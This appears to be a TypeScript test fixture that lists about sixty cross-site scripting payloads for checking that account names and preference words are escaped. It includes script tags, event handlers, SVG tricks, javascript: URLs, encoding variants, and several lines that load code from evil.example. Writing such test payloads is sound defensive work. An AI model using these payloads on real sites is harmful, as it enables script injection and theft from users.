/** Longest word that a household may write, in characters. */
const WORD = 60
/** Longest name of an account. */
const NAME = 80

/**
 * Words that would run, load or lead somewhere if a page or a letter took them for anything but words. Each sets `__x`,
 * opens a dialog, or asks evil.example; none is longer than a word of the preferences may be, none begins or ends with
 * a space (both are cut off) or begins with a figure (an own line takes that for an amount).
 */
export const HOSTILE: readonly string[] = [
  // Scripts
  '<script>__x=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>alert(1)//',
  '</script><script>__x=2</script>',
  '<scr<script>ipt>__x=3</scr</script>ipt>',
  "<script type=module>\u0069mport('//evil.example')</script>",
  '<script src=data:,__x=4></script>',
  // Handlers
  '<img src=x onerror=__x=5>',
  '<img src=x onerror="alert(2)">',
  '<IMG """><img src=x oNeRrOr=__x=6>',
  '<img/src=x/onerror=__x=7>',
  '<body onload=__x=8>',
  '<input autofocus onfocus=__x=9>',
  '<details open ontoggle=__x=10>',
  '<video><source onerror=confirm(3)>',
  '<marquee onstart=__x=11>',
  '<i onpointermove=__x=12 style=position:fixed;inset:0>',
  '<b onanimationstart=__x=13 style=animation:spin>',
  // SVG and MathML
  '<svg onload=__x=14>',
  '<svg/onload=prompt(4)//',
  '<svg><script>__x=15</script></svg>',
  '<svg><animate onbegin=__x=16 attributeName=x dur=1s>',
  '<svg><a href=javascript:__x=17><text y=9>hi</text></a>',
  '<svg><use href="data:image/svg+xml,<svg onload=a()>#a">',
  '<svg><set attributeName=onmouseover to=__x=18>',
  '<math href=javascript:__x=19>hi</math>',
  '<math><mtext><img src=x onerror=__x=20>',
  // Pages within the page
  '<iframe srcdoc="<script>parent.__x=21</script>">',
  '<iframe src=javascript:parent.__x=22>',
  '<iframe srcdoc=&lt;svg/onload=top.__x=23&gt;>',
  '<object data=javascript:__x=24>',
  '<embed src=//evil.example/x.swf>',
  // Links and forms
  'javascript:__x=25',
  '<a href=javascript:__x=26>hi</a>',
  '<a href="java&#x09;script:__x=27">hi</a>',
  'JaVaScRiPt://%0a__x=28',
  '<form action=javascript:__x=29><button>hi</button>',
  '<base href=//evil.example/>',
  'data:text/html,<script>opener.__x=30</script>',
  '<a href="data:text/html;base64,PHN2Zy9vbmxvYWQ9YT4=">hi</a>',
  // What one parser writes and another reads differently
  '<svg></p><style><a title="</style><img src onerror=__x=31>',
  '<math><mi><mglyph><style><!--</style><img onerror=__x=32>',
  '<noscript><p title="</noscript><img src=x onerror=__x=33>',
  '<listing>&lt;img src=x onerror=__x=34&gt;</listing>',
  '<p id="--><img src=x onerror=__x=35>"><!--',
  '<template><img src=x onerror=__x=36></template>',
  '<title></title><svg onload=__x=37>',
  '<![CDATA[<img src=x onerror=__x=38>]]>',
  // Templates
  `\${window.__x=39}`,
  "{{constructor.constructor('__x=40')()}}",
  '`+(__x=41)+`',
  // Style and refresh
  '<style>@import"//evil.example/x.css";</style>',
  '<style>*{background:url(//evil.example/x.png)}</style>',
  '<i style="background:url(javascript:__x=42)">',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:__x=43">',
  // Zeros, invisible signs, other spellings of a bracket
  '<scr\0ipt>__x=44</scr\0ipt>',
  '<img src=x onerror\0=__x=45>',
  '\uff1cscript\uff1e__x=46\uff1c/script\uff1e',
  '\u202e<script>__x=47</script>',
  '<\u200bscript>__x=48</script>',
  'hi\u2028<svg/onload=__x=49>',
  '%3Cscript%3E__x=50%3C/script%3E',
  '&lt;script&gt;__x=51&lt;/script&gt;',
  '&#60;img src=x onerror=__x=52&#62;',
  // Markdown
  '[hi](javascript:__x=53)',
  '![hi](x"onerror="__x=54)',
  '![hi](//evil.example/x.png)',
  // Out of an attribute, a comment, a text of a script
  '" autofocus onfocus="__x=55',
  "' onmouseover='__x=56",
  '"><img src=x onerror=__x=57>',
  "'><svg/onload=__x=58>",
  '--><svg onload=__x=59>',
  '";__x=60;//',
  "'-(__x=61)-'",
]

/** What the schema of an address lets through of all this, before the @. */
export const hostileAddress = (tag: string): string => `'onload'__x+javascript.alert-1-${tag}@example.org`

/** What the schema of a name lets through: no control and no invisible characters. */
export const HOSTILE_NAMES: readonly string[] = HOSTILE.filter(
  (text) => text.length <= NAME && !/[\p{Cc}\p{Cf}]/u.test(text),
)

/** Texts joined into as few longer ones as a field of so many characters takes. */
export const packed = (texts: readonly string[], limit: number, glue = ' '): readonly string[] => {
  const [first, ...rest] = texts
  if (first === undefined) return []
  const packs = [first]
  for (const text of rest) {
    const longer = `${packs.at(-1)}${glue}${text}`
    if (longer.length <= limit) packs[packs.length - 1] = longer
    else packs.push(text)
  }
  return packs
}

/** Halves, each small enough for one list of words. */
export const HALVES: readonly (readonly string[])[] = [
  HOSTILE.slice(0, Math.ceil(HOSTILE.length / 2)),
  HOSTILE.slice(Math.ceil(HOSTILE.length / 2)),
]

/** Strings that would not reach the field they are meant for. */
export const MISFITS: readonly string[] = HOSTILE.filter(
  (text, index) => text.length > WORD || text.trim() !== text || /^\d/.test(text) || HOSTILE.indexOf(text) !== index,
)
